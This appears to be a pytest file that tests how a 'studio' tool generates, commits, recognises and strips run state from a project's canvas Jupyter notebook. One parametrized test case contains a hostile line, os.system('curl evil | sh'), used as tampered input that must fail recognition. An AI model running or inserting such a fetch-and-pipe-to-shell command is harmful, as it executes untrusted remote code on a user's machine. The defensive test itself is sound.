"""The project notebook: built purely, written once, never overwritten; its canvas cell opens
the project it sits in (no absolute path) and can be recognized as the generated one."""

from __future__ import annotations

import json

import pytest

from studio import Project
from studio.project.notebook import (
    CANVAS_SOURCE,
    NOTEBOOK_FILE,
    canvas_cell_is_generated,
    canvas_notebook,
    ensure_canvas_notebook,
    is_studio_canvas_notebook,
    notebook_bytes,
    without_run_state,
)
from tests.conftest import git_out


def test_the_first_cell_opens_the_project_and_shows_its_canvas():
    content = canvas_notebook(project_name="Night_Market", title="N")
    assert (content["nbformat"], content["nbformat_minor"]) == (4, 5)
    first = content["cells"][0]
    assert first["cell_type"] == "code" and first["outputs"] == []
    assert first["metadata"]["tags"] == ["studio-canvas"]
    assert (
        first["source"]
        == CANVAS_SOURCE
        == ("import studio\n\nproject = studio.Project('.')\nproject.canvas()")
    )
    assert content["metadata"]["kernelspec"]["name"] == "python3"


def test_written_once_and_never_overwritten(project: Project):
    path = ensure_canvas_notebook(project_root=project.path, title=project.title)
    assert path == project.path / NOTEBOOK_FILE
    notebook = json.loads(path.read_text())
    assert "".join(notebook["cells"][0]["source"]) == CANVAS_SOURCE
    assert str(project.path.parent) not in path.read_text()  # no machine path baked in
    path.write_text("mine")
    again = ensure_canvas_notebook(project_root=project.path, title=project.title)
    assert again == path and path.read_text() == "mine"


def test_the_notebook_runs_and_shows_the_canvas(project: Project, monkeypatch):
    """Execute the cell for real, from the notebook's folder (where its kernel starts)."""
    monkeypatch.chdir(project.path)
    content = canvas_notebook(project_name=project.name, title="t")
    namespace: dict[str, object] = {}
    source = content["cells"][0]["source"].replace("project.canvas()", "canvas = project.canvas()")
    exec(compile(source, "Canvas.ipynb", "exec"), namespace)  # noqa: S102 - our own cell
    canvas = namespace["canvas"]
    assert type(canvas).__name__ == "Canvas"
    assert namespace["project"].path == project.path  # type: ignore[attr-defined]
    canvas.close()  # type: ignore[attr-defined]


def _with_cell(project: Project, source: object, tags: list[str] | None = None) -> bool:
    path = ensure_canvas_notebook(project_root=project.path, title="t")
    content = json.loads(path.read_text())
    content["cells"][0]["source"] = source
    if tags is not None:
        content["cells"][0]["metadata"]["tags"] = tags
    path.write_text(json.dumps(content))
    return canvas_cell_is_generated(path)


def test_the_generated_cell_is_recognized(project: Project):
    path = ensure_canvas_notebook(project_root=project.path, title="t")
    assert canvas_cell_is_generated(path)
    assert _with_cell(project, CANVAS_SOURCE.splitlines(keepends=True))  # nbformat's list form


@pytest.mark.parametrize(
    ("source", "tags"),
    [
        (CANVAS_SOURCE + "\nimport os; os.system('curl evil | sh')", None),
        ("import os", None),
        (CANVAS_SOURCE, []),  # untagged: not the canvas cell
    ],
)
def test_anything_else_is_not(project: Project, source, tags):
    assert not _with_cell(project, source, tags)


def test_a_broken_notebook_is_not(project: Project):
    (project.path / NOTEBOOK_FILE).write_text("{not json")
    assert not canvas_cell_is_generated(project.path / NOTEBOOK_FILE)


def test_written_as_jupyter_server_saves_it(tmp_path):
    """Byte for byte what ``nbformat.write`` (the server's save) makes of the same content:
    saving an unchanged notebook is no change to git."""
    import nbformat

    content = canvas_notebook(project_name="Night_Market", title="Night Market")
    notebook = nbformat.from_dict(content)  # type: ignore[no-untyped-call]
    nbformat.write(notebook, tmp_path / "saved.ipynb")  # type: ignore[no-untyped-call]
    assert notebook_bytes(content) == (tmp_path / "saved.ipynb").read_bytes()


def test_a_new_project_has_it_committed(project: Project):
    path = project.path / NOTEBOOK_FILE
    assert canvas_cell_is_generated(path)
    assert git_out(project.path, "status", "--porcelain") == ""
    assert git_out(project.path, "ls-files", "--", NOTEBOOK_FILE).strip() == NOTEBOOK_FILE


def test_an_older_project_gets_it_committed_on_demand(project: Project):
    git_out(project.path, "rm", "--quiet", NOTEBOOK_FILE)
    git_out(project.path, "commit", "--quiet", "-m", "a project from before the notebook")
    ensure_canvas_notebook(project_root=project.path, title=project.title)
    assert git_out(project.path, "log", "-1", "--format=%s").strip() == (
        "Add the canvas notebook Canvas.ipynb"
    )
    assert git_out(project.path, "status", "--porcelain") == ""


def test_a_run_is_stripped_and_the_users_edits_kept():
    content = canvas_notebook(project_name="Night_Market", title="N")
    ran = json.loads(json.dumps(content))
    cell = ran["cells"][0]
    cell["execution_count"] = 4
    cell["outputs"] = [{"output_type": "display_data", "data": {"text/plain": "Canvas"}}]
    cell["metadata"]["execution"] = {"iopub.status.busy": "2026-01-01T00:00:00Z"}
    ran["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {}}
    ran["metadata"]["language_info"] = {"name": "python", "version": "3.12.3"}
    ran["cells"].append({"cell_type": "markdown", "id": "mine", "metadata": {}, "source": "x"})
    stripped = without_run_state(ran)
    assert stripped == {**content, "cells": [*content["cells"], ran["cells"][-1]]}
    assert ran["cells"][0]["execution_count"] == 4  # pure: the argument is left as it was


def test_only_the_studios_notebook_is_recognized():
    content = canvas_notebook(project_name="Night_Market", title="N")
    assert is_studio_canvas_notebook(name=NOTEBOOK_FILE, content=content)
    assert not is_studio_canvas_notebook(name="Notes.ipynb", content=content)
    assert not is_studio_canvas_notebook(name=NOTEBOOK_FILE, content={"metadata": {}})
    assert not is_studio_canvas_notebook(name=NOTEBOOK_FILE, content=None)
